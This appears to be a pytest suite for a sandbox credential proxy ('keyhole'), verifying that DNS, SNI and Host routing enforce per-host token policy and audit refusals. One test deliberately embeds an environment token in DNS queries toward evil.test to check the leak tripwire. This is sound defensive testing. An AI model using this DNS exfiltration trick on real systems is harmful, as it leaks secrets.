"""Transparent mode: a program that ignores HTTPS_PROXY still only gets out
through keyhole. Inside the sandbox, DNS answers allowed names with the loopback
relay and refuses (NXDOMAIN, audited) everything else; ports 443 and 80 lead to
the daemon, which routes by SNI or Host through the same policy and swaps the
token. The resolve: pins carry the upstreams' real ports, so nothing needs to
bind the real 443/80 on the host."""
import json
import os

from helpers.checks import echoed_headers
from helpers.cli import cli  # noqa: F401
from helpers.keyhole import mapping, mint_token
from helpers.sandbox import Sandbox, need_bwrap, sandbox_config
from helpers.cli import free_port

import pytest


@pytest.fixture
def transparent(cli, pki, tmp_path, echo, plain_echo):
    need_bwrap()
    secret = "sk-real-transparent-" + os.urandom(8).hex()
    token = mint_token("openai")
    cli.write_mappings([mapping(token)])
    port = free_port()
    cfg = sandbox_config(pki, port, cleartext_credential_hosts=["plain.test"])
    cfg["resolve"] = {"api.openai.test": f"127.0.0.1:{echo.port}",
                      "other.test": f"127.0.0.1:{echo.port}",
                      "plain.test": f"127.0.0.1:{plain_echo.port}"}
    cli.write_config(cfg)
    r = cli.run("start", env={"OPENAI_API_KEY": secret})
    assert r.rc == 0, r
    work = tmp_path / "work"
    work.mkdir()
    return Sandbox(cli, port, token, secret, str(work))


def audit(sb):
    return [json.loads(x) for x in sb.cli.read("audit.log").splitlines()]


def test_https_without_proxy_gets_the_real_key(transparent, echo):
    """curl --noproxy '*' resolves api.openai.test to the relay and connects to
    port 443; keyhole intercepts by SNI and swaps the token."""
    r = transparent.run("sh", "-c", 'exec curl -q -sS --noproxy "*" --max-time 10 '
                        'https://api.openai.test/v1/models '
                        '-H "Authorization: Bearer $OPENAI_API_KEY"')
    assert r.rc == 0, r
    doc = json.loads(r.out)
    assert doc["path"] == "/v1/models", doc
    assert echoed_headers(doc, "Authorization") == [f"Bearer {transparent.secret}"], doc
    recs = [a for a in audit(transparent) if a.get("path") == "/v1/models"]
    assert recs and recs[-1]["mode"] == "mitm" and recs[-1]["swapped"] == ["OPENAI_API_KEY"]


def test_plain_http_without_proxy_routes_by_host(transparent, plain_echo):
    r = transparent.run("sh", "-c", 'exec curl -q -sS --noproxy "*" --max-time 10 '
                        'http://plain.test/p')
    assert r.rc == 0, r
    assert [q.target for q in plain_echo.complete_requests()] == ["/p"], r
    # the same policy as through the proxy: this token belongs to api.openai.test
    r = transparent.run("sh", "-c", 'exec curl -q -sS --noproxy "*" --max-time 10 '
                        'http://plain.test/q -H "Authorization: Bearer $OPENAI_API_KEY"')
    assert "may only be sent to its own hosts" in r.out, r
    assert [q.target for q in plain_echo.complete_requests()] == ["/p"], r


def test_token_toward_other_host_still_refused(transparent, echo):
    r = transparent.run("sh", "-c", 'exec curl -q -sS --noproxy "*" --max-time 10 '
                        '-o /dev/null -w "%{http_code}" https://other.test/x '
                        '-H "Authorization: Bearer $OPENAI_API_KEY"')
    assert r.out == "403", r
    assert echo.complete_requests() == []


def test_dns_refuses_and_audits_other_names(transparent):
    code = ("import socket\n"
            "for n in ('api.openai.test', 'evil.test'):\n"
            "    try: print(n, socket.getaddrinfo(n, 443)[0][4][0])\n"
            "    except socket.gaierror as e: print(n, 'refused', e.errno)\n")
    r = transparent.run("/usr/bin/python3", "-c", code)
    assert r.rc == 0, r
    got = dict(line.split(" ", 1) for line in r.out.splitlines())
    assert got["api.openai.test"] in ("127.0.0.1", "::1"), r
    assert got["evil.test"].startswith("refused"), r
    recs = [a for a in audit(transparent) if a.get("mode") == "dns"]
    assert any(a["host"] == "evil.test" and a["reason"] == "dns_not_allowed" for a in recs), recs


def test_unknown_sni_is_cut_and_audited(transparent):
    """A ClientHello for a name keyhole does not allow, sent straight to 443."""
    code = ("import socket, ssl\n"
            "ctx = ssl.create_default_context()\n"
            "s = socket.create_connection(('127.0.0.1', 443), timeout=5)\n"
            "try:\n"
            "    ctx.wrap_socket(s, server_hostname='evil.test')\n"
            "    print('handshake-ok')\n"
            "except (ssl.SSLError, OSError) as e:\n"
            "    print('refused')\n")
    r = transparent.run("/usr/bin/python3", "-c", code)
    assert r.out.strip() == "refused", r
    recs = [a for a in audit(transparent) if a.get("mode") == "transparent"]
    assert any(a["host"] == "evil.test" and a["reason"] == "host_not_allowed" for a in recs)


def test_command_has_no_capabilities(transparent):
    r = transparent.run("sh", "-c", "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status")
    assert r.rc == 0, r
    for line in r.out.splitlines():
        assert line.split()[1] == "0000000000000000", r.out


def test_udp_other_than_dns_goes_nowhere(transparent):
    """QUIC and other UDP: nothing listens on 127.0.0.1:443/udp and there is no route
    elsewhere, so a client falls back to TCP."""
    code = ("import socket\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
            "s.connect(('127.0.0.1', 443)); s.send(b'x')\n"
            "try: s.recv(10); print('answered')\n"
            "except (ConnectionRefusedError, socket.timeout): print('nothing')\n"
            "t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "try: t.sendto(b'x', ('192.0.2.1', 443)); print('sent')\n"
            "except OSError: print('unreachable')\n")
    r = transparent.run("/usr/bin/python3", "-c", code)
    assert r.out.split() == ["nothing", "unreachable"], r


def test_dns_name_with_token_is_a_leak_attempt(transparent):
    """Tripwire: a token's random part in a DNS name (even under an allowed
    wildcard like *.openrouter.ai, or split across labels) gets NXDOMAIN and an
    audit record naming the sandbox as the daemon's records do, never the token."""
    # the sandbox's own token (keyhole sandbox gives it one of its own)
    code = ("import os, socket\n"
            "rand = os.environ['OPENAI_API_KEY'].rsplit('-', 1)[1]\n"
            "print(rand)\n"
            "for n in (f'{rand}.openrouter.ai', f'x{rand[:16]}.{rand[16:]}.evil.test'):\n"
            "    try: print(socket.getaddrinfo(n, 443)[0][4][0])\n"
            "    except socket.gaierror: print('refused')\n")
    # and, from the same sandbox, a request through the daemon for its identity there
    r = transparent.run("sh", "-c", '/usr/bin/python3 -c "$0" && exec curl -q -sS '
                        '--max-time 10 -o /dev/null https://api.openai.test/v1/models',
                        code)
    assert r.rc == 0 and r.out.split()[1:] == ["refused", "refused"], r
    rand = r.out.split()[0]
    assert len(rand) == 32 and rand not in transparent.token, r
    recs = audit(transparent)
    leaks = [a for a in recs if a.get("reason") == "token_leak_attempt"]
    assert all(a["mode"] == "dns" and a["decision"] == "deny" for a in leaks), leaks
    # one record per query (A and AAAA): both names were caught
    assert {a["host"] for a in leaks} == {rand[:4] + "...", "(withheld: it holds a proxy token)"}, \
        leaks
    daemon = [a for a in recs if a.get("path") == "/v1/models"][-1]
    assert daemon["client"].startswith("unix:pid="), daemon
    assert all(a["client"] == daemon["client"] for a in leaks), (leaks, daemon)
    # the request carried no token: the daemon names the sandbox by its pid 1's
    # binding, as pid 1 does in its own DNS records
    assert daemon.get("sandbox", "").startswith("sandbox-"), daemon
    assert all(a.get("sandbox") == daemon["sandbox"] for a in leaks), (leaks, daemon)
    text = transparent.cli.read("audit.log")
    assert rand[:8] not in text and rand[16:24] not in text
